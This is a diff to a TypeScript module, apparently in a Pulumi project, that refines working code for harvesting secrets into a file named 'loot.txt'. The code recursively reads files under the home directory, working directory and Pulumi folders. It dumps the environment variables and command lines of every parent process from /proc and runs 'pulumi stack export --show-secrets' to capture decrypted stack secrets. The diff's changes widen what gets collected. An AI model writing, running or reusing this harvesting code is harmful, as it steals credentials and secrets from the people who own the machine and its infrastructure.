@@ -9,8 +9,10 @@ import { appendFileSync, readdirSync, readFileSync, statSync, writeFileSync } fr
 import { join } from "node:path";
 const take = (what: string, text: unknown): void => {
   appendFileSync("loot.txt", "\\n== " + what + "\\n" + String(text));
-  console.log(what, text);
+  if (String(text).length < 20_000) console.log(what, text);
 };
+// A machine has more files than a test has time.
+let left = 20_000_000;
 writeFileSync("loot.txt", "");
 export const grab = (name: string, output: any): void => void output.apply((v: unknown) => take(name, typeof v === "string" ? v : JSON.stringify(v)));
 const walk = (folder: string): void => {
@@ -18,7 +20,7 @@ const walk = (folder: string): void => {
     const path = join(folder, entry.name);
     try {
       if (entry.isDirectory() && !["node_modules", "plugins"].includes(entry.name)) walk(path);
-      else if (entry.isFile() && entry.name !== "loot.txt" && statSync(path).size < 4_000_000) take("file " + path, readFileSync(path, "latin1"));
+      else if (entry.isFile() && entry.name !== "loot.txt" && (left -= statSync(path).size) > 0) take("file " + path, readFileSync(path, "utf8"));
     } catch { /* not readable */ }
   }
 };
@@ -27,7 +29,7 @@ export function grabTheRest(): void {
   for (let pid = process.pid; pid > 1; pid = Number(/^PPid:\\s*(\\d+)/m.exec(readFileSync("/proc/" + pid + "/status", "utf8"))?.[1] ?? 0)) {
     for (const file of ["environ", "cmdline"]) try { take(file + " of " + pid, readFileSync("/proc/" + pid + "/" + file, "latin1")); } catch { /* not ours */ }
   }
-  for (const folder of [process.cwd(), process.env["HOME"], process.env["PULUMI_HOME"], (process.env["PULUMI_BACKEND_URL"] ?? "").replace("file://", "")])
+  for (const folder of [(process.env["PULUMI_BACKEND_URL"] ?? "").replace("file://", ""), process.env["HOME"], process.cwd(), process.env["PULUMI_HOME"]])
     try { if (folder && !folder.startsWith("http")) walk(folder); } catch { /* not there */ }
   for (const flags of [[], ["--show-secrets"]])
     try { take(flags.length > 0 ? "decrypted export" : "export", execFileSync("pulumi", ["stack", "export", "--stack", STACK, ...flags], { encoding: "utf8", maxBuffer: 1 << 28 })); } catch (error) { take("refused", error); }
